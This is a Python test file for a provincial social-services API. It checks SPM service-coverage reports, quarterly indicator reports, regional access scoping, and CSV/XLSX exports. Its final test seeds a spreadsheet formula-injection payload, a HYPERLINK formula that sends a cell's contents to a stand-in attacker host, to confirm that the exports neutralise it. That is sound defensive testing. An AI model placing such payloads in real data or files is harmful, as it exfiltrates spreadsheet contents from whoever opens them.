"""The SPM and indicator reports: figures worked out by hand from a small province, scoped by
region, and the same figures as CSV and XLSX, safe to open in a spreadsheet."""

import csv
import io
import uuid
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from tests.programs.helpers import (
    BANJAR,
    KOTA,
    PROVINCE,
    TODAY,
    feed_assessment,
    feed_distribution,
    feed_victim,
    problem_fields,
    problem_type,
)
from tests.support import auth

Y = TODAY.year - 1  # a whole year in the past: every quarter has ended


async def panti(client: httpx.AsyncClient, kind: str, region: str = "63.71.01") -> dict:
    response = await client.post(
        "/api/v1/institutions",
        json={"name": f"Panti {kind}", "kind": kind, "region_code": region, "capacity": 50},
        headers=PROVINCE,
    )
    assert response.status_code == 201, response.text
    return response.json()


async def stay(
    client: httpx.AsyncClient,
    home: dict,
    person: uuid.UUID,
    needs: dict[str, str],
    *,
    admitted_on: str = f"{Y}-01-15",
    ppks_type: str | None = None,
    discharged_on: str | None = None,
) -> dict:
    body: dict[str, Any] = {"person_id": str(person), "admitted_on": admitted_on}
    if ppks_type:
        body["ppks_type"] = ppks_type
    response = await client.post(f"/api/v1/institutions/{home['id']}/admissions", json=body, headers=PROVINCE)
    assert response.status_code == 201, response.text
    admission = response.json()
    for need, met_on in needs.items():
        met = await client.post(
            f"/api/v1/admissions/{admission['id']}/basic-needs",
            json={"need": need, "met_on": met_on},
            headers=PROVINCE,
        )
        assert met.status_code == 201, met.text
    if discharged_on:
        out = await client.post(
            f"/api/v1/admissions/{admission['id']}/discharge",
            json={"discharged_on": discharged_on, "outcome": "returned_to_family"},
            headers=PROVINCE,
        )
        assert out.status_code == 200, out.text
    return admission


REQUIRED = ["housing", "food", "clothing", "civil_documents", "education_basic_health", "self_care"]


@pytest.fixture
async def province(programs: httpx.AsyncClient) -> dict[str, Any]:
    """Kalimantan Selatan in year Y, small enough to count by hand."""
    open_in_y = {"assessed_on": f"{Y}-02-01"}
    lansia = [uuid.uuid4() for _ in range(4)]
    for person in lansia:
        await feed_assessment(programs, person_id=person, ppks_type="08", **open_in_y)
    await feed_assessment(
        programs, person_id=lansia[0], ppks_type="08", assessed_on=f"{Y}-06-01"
    )  # counted once
    await feed_assessment(  # resolved before the year: not needing in Y
        programs,
        ppks_type="08",
        assessed_on=f"{Y - 1}-02-01",
        status="resolved_other",
        resolved_on=f"{Y - 1}-12-01",
    )
    await feed_assessment(programs, ppks_type="08", assessed_on=f"{Y + 1}-01-05")  # after the year
    await feed_assessment(programs, ppks_type="08", region_code="64.72.01", **open_in_y)  # Kalimantan Timur
    children = [uuid.uuid4() for _ in range(2)]
    await feed_assessment(programs, person_id=children[0], ppks_type="02", **open_in_y)
    await feed_assessment(
        programs, person_id=children[1], ppks_type="04", region_code="63.03.01", **open_in_y
    )
    await feed_assessment(programs, ppks_type="05", **open_in_y)  # a child with a disability
    await feed_assessment(programs, ppks_type="24", **open_in_y)  # fakir miskin: no panti SPM service

    elderly_home = await panti(programs, "lanjut_usia")
    await stay(programs, elderly_home, lansia[0], {n: f"{Y}-03-01" for n in REQUIRED}, ppks_type="08")
    await stay(programs, elderly_home, lansia[1], {"food": f"{Y}-01-20"})  # by the panti's kind
    await stay(  # stayed and left the year before: not served in Y
        programs,
        elderly_home,
        lansia[2],
        {"food": f"{Y - 1}-07-01"},
        admitted_on=f"{Y - 1}-06-01",
        discharged_on=f"{Y - 1}-12-01",
    )
    children_home = await panti(programs, "anak")
    await stay(programs, children_home, children[0], {"food": f"{Y}-04-01"}, ppks_type="02")

    flood = uuid.uuid4()
    sheltered = uuid.uuid4()
    at = f"{Y}-03-05T02:00:00+00:00"
    await feed_victim(
        programs, disaster_id=flood, person_id=sheltered, condition="mengungsi", registered_at=at
    )
    await feed_victim(programs, disaster_id=flood, nik="6371014506850001", condition="luka", registered_at=at)
    await feed_victim(programs, disaster_id=flood, condition="terdampak", registered_at=at)
    # Not in the configured conditions (the dead), and a regency's SPM rather than the province's:
    await feed_victim(programs, disaster_id=flood, condition="meninggal", registered_at=at)
    await feed_victim(programs, level="regency", condition="mengungsi", registered_at=at)
    await feed_victim(programs, disaster_id=flood, registered_at=f"{Y - 1}-12-31T15:00:00+00:00")  # WITA: Y-1
    await feed_distribution(programs, disaster_id=str(flood), person_id=str(sheltered))
    await feed_distribution(programs, disaster_id=str(flood), nik="6371014506850001")
    await feed_distribution(
        programs, disaster_id=str(uuid.uuid4()), nik="6371014506850001"
    )  # another disaster
    return {"lansia": lansia, "children": children}


def by_code(report: dict) -> dict[str, dict]:
    return {s["code"]: s for s in report["services"]}


async def test_spm_report_counts_needing_served_and_weights_them(
    programs: httpx.AsyncClient, province: dict
) -> None:
    response = await programs.get("/api/v1/reports/spm", params={"year": Y}, headers=PROVINCE)
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["year"] == Y and report["weighting"] == {"coverage": 0.8, "quality": 0.2}
    services = by_code(report)
    assert list(services) == ["disabilitas", "anak", "lanjut_usia", "gelandangan_pengemis", "korban_bencana"]

    elderly = services["lanjut_usia"]
    assert (elderly["needing"], elderly["served"], elderly["fully_served"]) == (4, 2, 1)
    assert elderly["coverage_percent"] == 50.0 and elderly["quality_percent"] == 50.0
    assert elderly["achievement_percent"] == 50.0

    children = services["anak"]
    assert (children["needing"], children["served"], children["fully_served"]) == (2, 1, 0)
    assert children["achievement_percent"] == 40.0  # 0.8 × 50 + 0.2 × 0

    disability = services["disabilitas"]
    assert (disability["needing"], disability["served"], disability["coverage_percent"]) == (1, 0, 0.0)
    assert disability["quality_percent"] is None and disability["achievement_percent"] == 0.0

    homeless = services["gelandangan_pengemis"]
    assert homeless["needing"] == 0 and homeless["coverage_percent"] is None

    victims = services["korban_bencana"]
    assert (victims["needing"], victims["served"], victims["fully_served"]) == (3, 2, None)
    assert victims["coverage_percent"] == 66.67 and victims["achievement_percent"] == 66.67

    overall = report["overall"]
    assert overall["needing"] == 10 and overall["served"] == 5
    assert overall["coverage_percent"] == 41.67  # mean of 0, 50, 50, 66.67
    assert overall["quality_percent"] == 25.0  # mean of 0 and 50
    assert overall["achievement_percent"] == 38.33  # 0.8 × 41.67 + 0.2 × 25


async def test_spm_weighting_and_victim_conditions_are_configurable(
    programs: httpx.AsyncClient, province: dict
) -> None:
    for key, value in [
        ("spm_weighting", {"coverage": 0.5, "quality": 0.5}),
        ("spm_victim_conditions", ["luka", "mengungsi", "terdampak", "meninggal"]),
    ]:
        response = await programs.put(f"/api/v1/parameters/{key}", json={"value": value}, headers=PROVINCE)
        assert response.status_code == 200, response.text
    report = (await programs.get("/api/v1/reports/spm", params={"year": Y}, headers=PROVINCE)).json()
    assert by_code(report)["lanjut_usia"]["achievement_percent"] == 50.0
    assert by_code(report)["anak"]["achievement_percent"] == 25.0  # 0.5 × 50 + 0.5 × 0
    assert by_code(report)["korban_bencana"]["needing"] == 4


async def test_spm_report_stays_in_the_callers_regions(programs: httpx.AsyncClient, province: dict) -> None:
    banjar = by_code((await programs.get("/api/v1/reports/spm", params={"year": Y}, headers=BANJAR)).json())
    assert banjar["anak"]["needing"] == 1 and banjar["anak"]["served"] == 0
    assert banjar["lanjut_usia"]["needing"] == 0 and banjar["korban_bencana"]["needing"] == 0

    kota = (
        await programs.get("/api/v1/reports/spm", params={"year": Y, "region": "63.03"}, headers=KOTA)
    ).json()
    assert kota["overall"]["needing"] == 0  # another regency: nothing leaks, not even a count
    narrowed = (
        await programs.get("/api/v1/reports/spm", params={"year": Y, "region": "63.71.01"}, headers=PROVINCE)
    ).json()
    assert by_code(narrowed)["anak"]["needing"] == 1 and by_code(narrowed)["lanjut_usia"]["needing"] == 4

    operator = await programs.get(
        "/api/v1/reports/spm", params={"year": Y}, headers=auth("institution_operator")
    )
    assert operator.status_code == 403 and problem_type(operator) == "forbidden"
    assert (await programs.get("/api/v1/reports/spm", params={"year": Y})).status_code == 401


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({}, "year"),
        ({"year": "2025a"}, "year"),
        ({"year": 1999}, "year"),
        ({"year": Y, "region": "63.7"}, "region"),
        ({"year": Y, "format": "pdf"}, "format"),
    ],
)
async def test_bad_report_query_is_422(programs: httpx.AsyncClient, params: dict, field: str) -> None:
    response = await programs.get("/api/v1/reports/spm", params=params, headers=PROVINCE)
    assert response.status_code == 422 and problem_fields(response) == {field}


async def test_spm_report_as_csv_and_xlsx(programs: httpx.AsyncClient, province: dict) -> None:
    as_json = (await programs.get("/api/v1/reports/spm", params={"year": Y}, headers=PROVINCE)).json()
    response = await programs.get(
        "/api/v1/reports/spm", params={"year": Y, "format": "csv"}, headers=PROVINCE
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="spm-{Y}.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["service_code"] for r in rows] == [s["code"] for s in as_json["services"]] + ["overall"]
    elderly = rows[2]
    assert (elderly["needing"], elderly["served"], elderly["achievement_percent"]) == ("4", "2", "50.0")
    assert rows[-1]["achievement_percent"] == "38.33"

    xlsx = await programs.get(
        "/api/v1/reports/spm", params={"year": Y, "format": "xlsx", "region": "63"}, headers=PROVINCE
    )
    assert xlsx.status_code == 200
    assert xlsx.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:6] == ["year", "region", "service_code", "service", "needing", "served"]
    assert values[3][2:6] == ["lanjut_usia", as_json["services"][2]["name"], 4, 2]
    assert values[-1][2] == "overall" and values[-1][-1] == 38.33


# --- Indicators -------------------------------------------------------------------------------------


async def indicator(client: httpx.AsyncClient, **body: Any) -> dict:
    payload = {
        "code": "IND",
        "name": "Indikator",
        "unit": "%",
        "direction": "up",
        "region_code": "63",
        **body,
    }
    response = await client.post("/api/v1/indicators", json=payload, headers=PROVINCE)
    assert response.status_code == 201, response.text
    return response.json()


async def test_mandiri_indicator_is_computed_from_assessments(programs: httpx.AsyncClient) -> None:
    mandiri = await indicator(
        programs,
        code="RPJMD-1",
        name="Persentase PPKS yang mandiri",
        source="ppks_mandiri",
        baseline=18.5,
        baseline_year=Y - 1,
    )
    assert (
        await programs.put(
            f"/api/v1/indicators/{mandiri['id']}/targets/{Y}", json={"target": 20.29}, headers=PROVINCE
        )
    ).status_code == 200
    people = [uuid.uuid4() for _ in range(10)]
    for i, person in enumerate(people):
        kwargs: dict[str, Any] = {"assessed_on": f"{Y}-05-01" if i >= 8 else f"{Y}-01-10", "ppks_type": "24"}
        if i < 2:
            kwargs |= {"status": "resolved_independent", "resolved_on": f"{Y}-03-15"}
        elif i == 2:
            kwargs |= {"status": "resolved_independent", "resolved_on": f"{Y}-08-01"}
        elif i == 3:
            kwargs |= {"status": "resolved_other", "resolved_on": f"{Y}-08-01"}
        await feed_assessment(programs, person_id=person, **kwargs)
    await feed_assessment(  # independent the year before: in neither count
        programs, assessed_on=f"{Y - 1}-01-10", status="resolved_independent", resolved_on=f"{Y - 1}-11-01"
    )
    await feed_assessment(programs, person_id=people[0], ppks_type="23", assessed_on=f"{Y}-02-01")  # once

    typed = await programs.put(
        f"/api/v1/indicators/{mandiri['id']}/realisations/{Y}/1",
        json={"value": 99, "evidence": "laporan"},
        headers=PROVINCE,
    )
    assert typed.status_code == 409 and problem_type(typed) == "computed-indicator"

    report = (await programs.get("/api/v1/reports/indicators", params={"year": Y}, headers=PROVINCE)).json()
    (row,) = report["indicators"]
    assert row["target"] == 20.29 and row["baseline"] == 18.5 and row["source"] == "ppks_mandiri"
    assert [q["value"] for q in row["quarters"]] == [25.0, 20.0, 30.0, 30.0]  # 2/8, 2/10, 3/10, 3/10
    assert [q["achievement_percent"] for q in row["quarters"]] == [123.21, 98.57, 147.86, 147.86]
    assert all(q["computed"] for q in row["quarters"])
    assert row["achievement_percent"] == 147.86


async def test_manual_indicator_targets_against_realisation(programs: httpx.AsyncClient, engine) -> None:  # type: ignore[no-untyped-def]
    down = await indicator(programs, code="ANJAL", name="Jumlah anak jalanan", unit="orang", direction="down")
    url = f"/api/v1/indicators/{down['id']}"
    assert (
        await programs.put(f"{url}/targets/{Y}", json={"target": 100}, headers=PROVINCE)
    ).status_code == 200
    q1 = await programs.put(
        f"{url}/realisations/{Y}/1",
        json={"value": 120, "evidence": "Laporan TW I No. 460/12"},
        headers=PROVINCE,
    )
    assert q1.status_code == 200, q1.text
    assert q1.json() == {
        "quarter": 1,
        "value": 120.0,
        "achievement_percent": 80.0,  # (2 × 100 − 120) ÷ 100
        "evidence": "Laporan TW I No. 460/12",
        "computed": False,
    }
    for path, body, field in [
        (f"realisations/{Y}/1", {"value": 90}, "evidence"),
        (f"realisations/{Y}/1", {"value": 90, "evidence": "  "}, "evidence"),
        (f"realisations/{Y}/5", {"value": 90, "evidence": "laporan"}, "quarter"),
        (f"realisations/{TODAY.year + 1}/1", {"value": 90, "evidence": "laporan"}, "quarter"),
        (f"realisations/{Y}/2", {"value": "sembilan", "evidence": "laporan"}, "value"),
        (f"targets/{Y}", {"target": None}, "target"),
    ]:
        response = await programs.put(f"{url}/{path}", json=body, headers=PROVINCE)
        assert response.status_code == 422 and problem_fields(response) == {field}, (path, response.text)

    report = (await programs.get("/api/v1/reports/indicators", params={"year": Y}, headers=PROVINCE)).json()
    (row,) = report["indicators"]
    assert [(q["value"], q["achievement_percent"]) for q in row["quarters"]] == [
        (120.0, 80.0),
        (None, None),
        (None, None),
        (None, None),
    ]
    other_year = (
        await programs.get("/api/v1/reports/indicators", params={"year": Y - 1}, headers=PROVINCE)
    ).json()
    assert other_year["indicators"][0]["target"] is None

    assert (await programs.get("/api/v1/reports/indicators", params={"year": Y}, headers=KOTA)).json()[
        "indicators"
    ] == []
    assert (await programs.put(f"{url}/targets/{Y}", json={"target": 1}, headers=KOTA)).status_code == 404
    taken = await programs.post(
        "/api/v1/indicators",
        json={"code": "ANJAL", "name": "x", "unit": "orang", "direction": "down", "region_code": "63"},
        headers=PROVINCE,
    )
    assert taken.status_code == 409 and problem_type(taken) == "indicator-code-taken"


async def test_spreadsheets_never_run_a_formula_from_the_data(programs: httpx.AsyncClient) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    row = await indicator(programs, code="-1+1", name=hostile, unit="@SUM(1)")
    await programs.put(f"/api/v1/indicators/{row['id']}/targets/{Y}", json={"target": 10}, headers=PROVINCE)
    await programs.put(
        f"/api/v1/indicators/{row['id']}/realisations/{Y}/1",
        json={"value": 5, "evidence": "+62 811 000"},
        headers=PROVINCE,
    )
    response = await programs.get(
        "/api/v1/reports/indicators", params={"year": Y, "format": "csv"}, headers=PROVINCE
    )
    first = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert first["indicator"] == "'" + hostile and first["code"] == "'-1+1" and first["unit"] == "'@SUM(1)"
    assert first["evidence"] == "'+62 811 000" and first["achievement_percent"] == "50.0"

    xlsx = await programs.get(
        "/api/v1/reports/indicators", params={"year": Y, "format": "xlsx"}, headers=PROVINCE
    )
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["indicator"].value == hostile and cells["indicator"].data_type == "s"
    assert cells["code"].data_type == "s" and cells["evidence"].value == "+62 811 000"
    assert cells["target"].value == 10 and cells["target"].data_type == "n"
